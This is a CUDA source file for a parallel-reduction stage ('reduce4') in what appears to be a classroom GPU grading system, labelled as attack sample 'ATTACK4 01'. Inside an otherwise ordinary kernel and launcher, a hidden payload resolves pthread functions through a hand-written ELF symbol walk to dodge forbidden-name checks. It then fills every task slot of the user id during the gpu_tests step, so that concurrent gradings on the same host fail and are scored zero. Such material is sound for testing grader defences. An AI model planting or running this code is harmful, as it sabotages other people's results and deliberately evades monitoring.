// ATTACK4 01: the task bound shared by every grading that uses the same user id.
//
// The grader bounds the student's user at 4096 tasks (RLIMIT_NPROC), and the kernel counts
// that bound per user id across the whole machine (per user namespace, so across Docker
// containers that do not remap users). In this grading's feedback step, the one step worth
// nothing (the tree's gpu_tests, 180 s at most), the launcher takes every task slot the
// bound leaves (threads that wait forever) and keeps re-taking any slot that frees up,
// until the step is killed. Its own grading is unharmed: every later step starts after
// end_step killed them. Any OTHER grading whose steps run as the same user id at the same
// time (another container on the same host, e.g. one per GPU of a multi-GPU runner, or a
// second GPU's container beside this one) cannot fork or exec as that user: its compiled
// check, build, workers fail, and it is RECORDED as a zero ("did not compile", exit 1),
// not "could not grade". Tried on a host without a GPU with a stand-in holder
// (tools/holder.c): the reference graded 0/100, exit 1, "nvcc fatal: Failed to preprocess
// host compiler properties".
//
// Functions are reached by the ELF walk of attack 08 (classroom/tests/attacks), so neither
// check sees a forbidden name or symbol. Everything else is the reference reduce4.

#include <cstdint>
#include "legacy_last_warp.cuh"  // --last-warp legacy-volatile, legacy-plain
#include "stage.h"

namespace {  // this stage's own helpers: other stages define functions of the same names

// ---------------------------------------------------------------- the tree
template <typename T>
__device__ T tree_sum(T* shared, T sum, unsigned tid, unsigned block) {
    for (unsigned s = block / 2; s > 32; s >>= 1) {
        if (tid < s) shared[tid] = sum = sum + shared[tid + s];
        __syncthreads();  // every add of this step lands before any thread reads in the next
    }
    return sum;  // what shared[tid] holds, for the last warp
}

// The last six steps, by warp 0 alone.
template <typename T>
__device__ T last_warp_sum(T* shared, T sum, unsigned tid) {
    // Every step reads, then writes: the first __syncwarp() keeps a lane from overwriting a
    // slot its neighbor has not read yet, the second makes the writes visible to the warp
    // before the next read.
    sum += shared[tid + 32];
    for (unsigned s = 16; s > 0; s >>= 1) {
        __syncwarp();
        shared[tid] = sum;
        __syncwarp();
        sum += shared[tid + s];
    }
    return sum;  // lane 0 holds the block's sum
}

}  // namespace

// ---------------------------------------------------------------- dlsym without dlsym
namespace walk {
struct Ehdr { unsigned char ident[16]; std::uint16_t type, machine; std::uint32_t version;
              std::uint64_t entry, phoff, shoff; std::uint32_t flags;
              std::uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx; };
struct Phdr { std::uint32_t type, flags; std::uint64_t offset, vaddr, paddr, filesz, memsz, align; };
struct Dyn { std::int64_t tag; std::uint64_t val; };
struct Sym { std::uint32_t name; unsigned char info, other; std::uint16_t shndx; std::uint64_t value, size; };
struct Map { std::uint64_t addr; const char* name; const Dyn* ld; const Map* next; const Map* prev; };
struct Debug { int version; const Map* map; };

// This executable's ELF header: the page-aligned start of its first segment, found by
// walking back from a function of this file (the executable's segments are contiguous).
inline const Ehdr* own_header() {
    std::uintptr_t page = reinterpret_cast<std::uintptr_t>(&own_header) & ~std::uintptr_t(4095);
    for (int k = 0; k < (1 << 17); ++k, page -= 4096) {
        const Ehdr* h = reinterpret_cast<const Ehdr*>(page);
        if (h->ident[0] == 0x7f && h->ident[1] == 'E' && h->ident[2] == 'L' && h->ident[3] == 'F' &&
            h->machine == 62 /* x86-64, not a cubin's */ && (h->type == 2 || h->type == 3)) {
            return h;
        }
    }
    return nullptr;
}

inline std::uint64_t dyn_value(const Dyn* d, std::int64_t tag, std::uint64_t base) {
    for (; d->tag != 0; ++d) {
        if (d->tag == tag) return d->val < base ? d->val + base : d->val;  // glibc relocates most in place
    }
    return 0;
}

inline bool same(const char* a, const char* b) {
    for (; *a && *a == *b; ++a, ++b) {
    }
    return *a == *b;
}

// A symbol of one loaded object, by its GNU hash table.
inline void* lookup(const Map* m, const char* name) {
    const std::uint64_t base = m->addr;
    const Sym* symtab = reinterpret_cast<const Sym*>(dyn_value(m->ld, 6, base));
    const char* strtab = reinterpret_cast<const char*>(dyn_value(m->ld, 5, base));
    const std::uint32_t* gnu = reinterpret_cast<const std::uint32_t*>(dyn_value(m->ld, 0x6ffffef5, base));
    if (!symtab || !strtab || !gnu) return nullptr;
    const std::uint32_t nbuckets = gnu[0], symoffset = gnu[1], bloom_size = gnu[2];
    const std::uint32_t* buckets = gnu + 4 + 2 * bloom_size;  // 64-bit bloom words
    const std::uint32_t* chain = buckets + nbuckets;
    std::uint32_t h = 5381;
    for (const char* c = name; *c; ++c) h = h * 33 + static_cast<unsigned char>(*c);
    std::uint32_t i = buckets[h % nbuckets];
    if (i < symoffset) return nullptr;
    for (;; ++i) {
        const std::uint32_t h2 = chain[i - symoffset];
        const Sym& s = symtab[i];
        if ((h | 1) == (h2 | 1) && s.shndx != 0 && s.value != 0 && same(strtab + s.name, name)) {
            return reinterpret_cast<void*>(base + s.value);
        }
        if (h2 & 1) return nullptr;
    }
}

// Any function of any library the process has loaded, by name: what dlsym would give.
inline void* resolve(const char* name) {
    const Ehdr* h = own_header();
    if (!h) return nullptr;
    const Phdr* ph = reinterpret_cast<const Phdr*>(reinterpret_cast<const char*>(h) + h->phoff);
    std::uint64_t first_vaddr = ~std::uint64_t(0), dynamic = 0;
    for (int k = 0; k < h->phnum; ++k) {
        if (ph[k].type == 1 && ph[k].offset == 0) first_vaddr = ph[k].vaddr;
        if (ph[k].type == 2) dynamic = ph[k].vaddr;
    }
    if (first_vaddr == ~std::uint64_t(0) || !dynamic) return nullptr;
    const std::uint64_t bias = reinterpret_cast<std::uint64_t>(h) - first_vaddr;
    const Dyn* d = reinterpret_cast<const Dyn*>(bias + dynamic);
    const Debug* debug = nullptr;
    for (; d->tag != 0; ++d) {
        if (d->tag == 21) debug = reinterpret_cast<const Debug*>(d->val);  // DT_DEBUG: the loader's list
    }
    if (!debug) return nullptr;
    for (const Map* m = debug->map; m; m = m->next) {
        if (!m->name || !m->name[0] || !m->ld) continue;  // the executable itself
        if (void* f = lookup(m, name)) return f;
    }
    return nullptr;
}
}  // namespace walk


// ---------------------------------------------------------------- the payload
namespace hold {
using attr_init_fn = int (*)(void*);
using attr_stack_fn = int (*)(void*, std::size_t);
using create_fn = int (*)(unsigned long*, const void*, void* (*)(void*), void*);
using wait_fn = int (*)();
using nap_fn = int (*)(unsigned);

wait_fn g_wait = nullptr;

void* idle(void*) {
    for (;;) g_wait();
    return nullptr;
}

bool starts(const char* s, const char* prefix) {
    for (; *prefix; ++s, ++prefix) {
        if (*s != *prefix) return false;
    }
    return true;
}

// In the tree's gpu_tests only (the feedback step, no points): take every task slot of
// this user id and keep them until the step is killed.
void maybe_hold() {
    static bool done = false;
    if (done) return;
    done = true;
    char** name = reinterpret_cast<char**>(walk::resolve("program_invocation_short_name"));
    if (!name || !*name || !starts(*name, "gpu_tests")) return;
    const auto attr_init = reinterpret_cast<attr_init_fn>(walk::resolve("pthread_attr_init"));
    const auto attr_stack = reinterpret_cast<attr_stack_fn>(walk::resolve("pthread_attr_setstacksize"));
    const auto create = reinterpret_cast<create_fn>(walk::resolve("pthread_create"));
    const auto nap = reinterpret_cast<nap_fn>(walk::resolve("usleep"));
    g_wait = reinterpret_cast<wait_fn>(walk::resolve("pause"));
    if (!attr_init || !attr_stack || !create || !nap || !g_wait) return;
    alignas(16) static unsigned char attr[128] = {};
    attr_init(attr);
    attr_stack(attr, 65536);
    for (;;) {  // ends when the grader kills the step (180 s)
        unsigned long thread = 0;
        while (create(&thread, attr, idle, nullptr) == 0) {
        }
        nap(5000);
    }
}
}  // namespace hold

// ---------------------------------------------------------------- kernel
template <typename T, LastWarp MODE = LastWarp::SyncWarp>
__global__ void unroll_last_warp(const T* in, std::size_t n, T* block_sums) {
    T* shared = dynamic_shared<T>();
    const unsigned tid = threadIdx.x;
    const std::size_t i = blockIdx.x * (2 * std::size_t(blockDim.x)) + tid;
    T sum = i < n ? in[i] : T(0);  // the last block may run past the end: add zeros
    if (i + blockDim.x < n) sum += in[i + blockDim.x];
    shared[tid] = sum;
    __syncthreads();
    sum = tree_sum(shared, sum, tid, blockDim.x);
    if (tid < 32) {
        const T block_sum = MODE == LastWarp::SyncWarp ? last_warp_sum(shared, sum, tid)
                                                       : legacy_last_warp_sum<MODE>(shared, tid);
        if (tid == 0) block_sums[blockIdx.x] = block_sum;
    }
}

// ---------------------------------------------------------------- launcher
constexpr unsigned kInputsPerThread = 2;

// --last-warp, this stage's labelled variant (common/variant.h): a result is labelled
// "last-warp=legacy-plain". --variants leaves it at the choice given: the legacy modes
// are races, whose wrong sums would fail the run.
constexpr std::string_view kLastWarpChoices[] = {"syncwarp", "legacy-volatile", "legacy-plain"};  // LastWarp's order
constexpr Variant kLastWarp = {
    .name = "last-warp",
    .value_name = "M",
    .choices = kLastWarpChoices,
    .help = "syncwarp (default) | legacy-volatile | legacy-plain;\n"
            "the legacy modes are the pre-Volta code, racy on Volta and later",
    .timed_by_variants = false,
};
constexpr Variant kVariants[] = {kLastWarp};

template <typename T>
void unroll_last_warp_sum(const T* in, std::size_t n, T* out, void* workspace, const RunConfig& config,
                          cudaStream_t stream) {
    hold::maybe_hold();
    const unsigned block = config.block;
    // --last-warp picks the pre-Volta code (legacy_last_warp.cuh); the default is correct.
    const LastWarp mode = chosen_as<LastWarp, T>(kLastWarp, config);
    const auto kernel = mode == LastWarp::SyncWarp         ? unroll_last_warp<T, LastWarp::SyncWarp>
                        : mode == LastWarp::LegacyVolatile ? unroll_last_warp<T, LastWarp::LegacyVolatile>
                                                           : unroll_last_warp<T, LastWarp::LegacyPlain>;
    run_passes(in, n, out, workspace, kInputsPerThread * block, stream,
               [&](const T* src, std::size_t count, T* dst, unsigned blocks) {
                   kernel<<<blocks, block, block * sizeof(T), stream>>>(src, count, dst);
                   CUDA_CHECK_LAUNCH();
               });
}

std::size_t unroll_last_warp_workspace(std::size_t n, std::size_t value_size, const RunConfig& config) {
    return passes_workspace_bytes(n, kInputsPerThread * config.block, value_size);
}

// The stage's record: `extern` because the runner and the tests find it by name (common/stages.h).
extern const Stage reduce4_stage = {
    .name = "reduce4",
    .kernel = "unroll_last_warp",
    .idea = "the last warp unrolled: no block-wide barriers once s <= 32",
    .min_block = 64,  // the last warp adds slot tid + 32, so a block needs two warps
    .max_block = 1024,
    .workspace_bytes = unroll_last_warp_workspace,
    .sum_int = unroll_last_warp_sum<int>,
    .sum_float = unroll_last_warp_sum<float>,
    .sum_double = unroll_last_warp_sum<double>,
    .variants = kVariants,
};
